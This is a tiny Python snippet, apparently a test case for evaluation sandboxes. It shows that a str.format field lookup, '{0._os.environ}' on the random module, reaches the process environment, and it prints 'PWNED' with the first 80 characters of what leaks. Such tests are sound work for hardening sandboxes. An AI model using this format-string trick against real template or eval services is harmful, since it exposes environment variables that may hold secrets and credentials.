# eval: str.format field lookup reaches random._os.environ (only text)
import random
M = "PWN" + "ED"
s = "{0._os.environ}".format(random)
if "PATH" in s:
    print(M, s[:80])
